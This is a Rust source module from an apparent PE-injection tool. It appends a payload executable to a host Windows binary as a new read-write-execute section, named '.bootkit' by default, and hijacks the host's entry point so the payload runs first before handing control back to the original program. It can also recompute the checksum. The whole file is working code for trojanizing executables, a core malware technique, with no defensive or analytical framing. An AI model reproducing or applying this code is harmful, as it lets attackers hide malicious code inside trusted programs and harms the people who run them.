//! Section injection and entry-point chaining.
//!
//! The payload is re-serialized with the host's original entry RVA in its
//! `AddressOfEntryPoint` field, prefixed with a landing pad, and appended to
//! the host as a new RWX code section.  The host entry point is moved to the
//! payload's own entry inside that section.

use log::{debug, info, warn};

use crate::error::{Error, Result};
use crate::pe::checksum;
use crate::pe::writer::{
    IMAGE_SCN_CNT_CODE, IMAGE_SCN_MEM_EXECUTE, IMAGE_SCN_MEM_READ, IMAGE_SCN_MEM_WRITE,
};
use crate::pe::parser::SECTION_HEADER_SIZE;
use crate::pe::{
    align_up, append_section, set_entry_point, write_pe, AlignError, PeError, PeFile,
    SectionHeader,
};

/// Section tag used when none is configured.
pub const DEFAULT_SECTION_NAME: &str = ".bootkit";
/// Bytes of landing pad placed before the payload image.
pub const DEFAULT_PAD_SIZE: u32 = 0x1000;
/// `int3`, so a stray jump into the pad traps instead of sliding.
pub const DEFAULT_PAD_BYTE: u8 = 0xCC;
/// Read | write | execute | code.
pub const SECTION_CHARACTERISTICS: u32 =
    IMAGE_SCN_MEM_READ | IMAGE_SCN_MEM_WRITE | IMAGE_SCN_MEM_EXECUTE | IMAGE_SCN_CNT_CODE;

/// Configuration for one injection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectOptions {
    /// Name of the appended section (at most 8 bytes).
    pub section_name: String,
    /// Length of the pad in front of the payload image.
    pub pad_size: u32,
    /// Fill byte for the pad.
    pub pad_byte: u8,
    /// When set, the payload's section and file alignment must both equal it.
    pub require_payload_alignment: Option<u32>,
    /// Require the payload's `ImageBase` to equal the RVA it lands at.
    pub check_payload_base: bool,
    /// Recompute the host's optional-header checksum after serialization.
    pub update_checksum: bool,
}

impl Default for InjectOptions {
    fn default() -> Self {
        InjectOptions {
            section_name: DEFAULT_SECTION_NAME.to_string(),
            pad_size: DEFAULT_PAD_SIZE,
            pad_byte: DEFAULT_PAD_BYTE,
            require_payload_alignment: None,
            check_payload_base: false,
            update_checksum: false,
        }
    }
}

/// What an injection changed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectReport {
    pub section_name: String,
    pub virtual_address: u32,
    pub virtual_size: u32,
    pub raw_offset: u32,
    pub raw_size: u32,
    /// Payload entry RVA before it was overwritten with the host's.
    pub payload_entry: u32,
    pub old_entry_point: u32,
    pub new_entry_point: u32,
    pub old_size_of_image: u32,
    pub new_size_of_image: u32,
    pub section_count: u16,
    /// Bytes that followed the host's last section before the append.
    pub trailing_data: usize,
    /// Set when the checksum was recomputed.
    pub checksum: Option<u32>,
}

/// A serialized host together with the report of what changed.
#[derive(Debug, Clone)]
pub struct Injected {
    pub image: Vec<u8>,
    pub report: InjectReport,
}

/// Store the host's entry RVA in the payload's entry-point field.
///
/// This field is how the payload learns where to jump once it is done: at
/// run time it reads its own `AddressOfEntryPoint` and transfers control to
/// that RVA in the host.  Returns the payload's original entry RVA.
pub fn chain_entry_point(host: &PeFile, payload: &mut PeFile) -> u32 {
    let payload_entry = payload.optional_header.entry_point;
    set_entry_point(payload, host.optional_header.entry_point);
    payload_entry
}

/// Pad followed by the serialized payload.
pub fn build_section_data(payload_image: &[u8], opts: &InjectOptions) -> Vec<u8> {
    let mut data = Vec::with_capacity(opts.pad_size as usize + payload_image.len());
    data.resize(opts.pad_size as usize, opts.pad_byte);
    data.extend_from_slice(payload_image);
    data
}

fn check_payload(payload: &PeFile, opts: &InjectOptions) -> Result<()> {
    if let Some(required) = opts.require_payload_alignment {
        let opt = &payload.optional_header;
        if opt.section_alignment != required || opt.file_alignment != required {
            return Err(Error::Payload(format!(
                "alignment is 0x{:X}/0x{:X} (section/file), expected 0x{:X} for both",
                opt.section_alignment, opt.file_alignment, required
            )));
        }
    }
    Ok(())
}

fn to_u32(value: usize) -> Result<u32> {
    u32::try_from(value).map_err(|_| Error::Alignment(AlignError::Overflow))
}

/// Append `payload` to `host` as a new section and chain the entry points.
///
/// `host` is only modified once every address has been computed and
/// checked, so an error leaves it untouched.
pub fn inject(host: &mut PeFile, mut payload: PeFile, opts: &InjectOptions) -> Result<InjectReport> {
    let section_alignment = host.optional_header.section_alignment;
    let file_alignment = host.optional_header.file_alignment;

    let last = *host.sections.last().ok_or(Error::host(PeError::NoSections))?;
    let last_end = last
        .virtual_address
        .checked_add(align_up(last.virtual_size, section_alignment)?)
        .ok_or(AlignError::Overflow)?;
    let image_end = host.end_of_image()?;
    if last_end < image_end {
        return Err(Error::host(PeError::SectionsOutOfOrder {
            last_end,
            image_end,
        }));
    }
    if host.sections.len() >= host.section_table_capacity() {
        return Err(Error::host(PeError::NoSectionTableRoom {
            table_end: host.section_table_offset()
                + (host.sections.len() + 1) * SECTION_HEADER_SIZE,
            limit: host.optional_header.size_of_headers as usize,
        }));
    }
    check_payload(&payload, opts)?;

    let old_entry_point = host.optional_header.entry_point;
    let payload_entry = chain_entry_point(host, &mut payload);
    let payload_image = write_pe(&payload).map_err(Error::payload)?;
    let data = build_section_data(&payload_image, opts);
    let new_section_size = to_u32(data.len())?;

    let mut section = SectionHeader::new(&opts.section_name).map_err(Error::host)?;
    section.virtual_size = new_section_size;
    section.size_of_raw_data = align_up(new_section_size, file_alignment)?;
    section.pointer_to_raw_data = to_u32(host.end_of_file())?;
    section.virtual_address = last_end;
    section.characteristics = SECTION_CHARACTERISTICS;
    section
        .pointer_to_raw_data
        .checked_add(section.size_of_raw_data)
        .ok_or(AlignError::Overflow)?;

    let payload_base = section
        .virtual_address
        .checked_add(opts.pad_size)
        .ok_or(AlignError::Overflow)?;
    if opts.check_payload_base && payload.optional_header.image_base != payload_base as u64 {
        return Err(Error::Payload(format!(
            "image base is 0x{:X}, expected 0x{:X} to match its placement",
            payload.optional_header.image_base, payload_base
        )));
    }

    let new_entry_point = payload_base
        .checked_add(payload_entry)
        .ok_or(AlignError::Overflow)?;
    let aligned_section_size = align_up(new_section_size, section_alignment)?;
    section
        .virtual_address
        .checked_add(aligned_section_size)
        .ok_or(AlignError::Overflow)?;
    let old_size_of_image = host.optional_header.size_of_image;
    let new_size_of_image = old_size_of_image
        .checked_add(aligned_section_size)
        .ok_or(AlignError::Overflow)?;

    let trailing_data = host.trailing_data_len();
    if trailing_data > 0 {
        warn!(
            "host has 0x{:X} bytes after its last section; new section follows them",
            trailing_data
        );
    }
    debug!(
        "new section {}: rva 0x{:08X} vsize 0x{:X}, raw 0x{:X} size 0x{:X}",
        opts.section_name,
        section.virtual_address,
        section.virtual_size,
        section.pointer_to_raw_data,
        section.size_of_raw_data
    );

    append_section(host, section, &data).map_err(Error::host)?;
    set_entry_point(host, new_entry_point);
    host.optional_header.size_of_image = new_size_of_image;

    info!(
        "injected {} (0x{:X} bytes): entry 0x{:08X} -> 0x{:08X}",
        opts.section_name, new_section_size, old_entry_point, new_entry_point
    );

    Ok(InjectReport {
        section_name: opts.section_name.clone(),
        virtual_address: section.virtual_address,
        virtual_size: section.virtual_size,
        raw_offset: section.pointer_to_raw_data,
        raw_size: section.size_of_raw_data,
        payload_entry,
        old_entry_point,
        new_entry_point,
        old_size_of_image,
        new_size_of_image,
        section_count: host.coff_header.number_of_sections,
        trailing_data,
        checksum: None,
    })
}

/// Parse both inputs, inject, and serialize the host.
pub fn inject_bytes(host: Vec<u8>, payload: Vec<u8>, opts: &InjectOptions) -> Result<Injected> {
    let mut host = PeFile::parse(host).map_err(Error::host)?;
    let payload = PeFile::parse(payload).map_err(Error::payload)?;

    let mut report = inject(&mut host, payload, opts)?;
    let mut image = write_pe(&host).map_err(Error::host)?;
    if opts.update_checksum {
        report.checksum = checksum::update_in_place(&mut image, host.checksum_offset());
    }
    Ok(Injected { image, report })
}
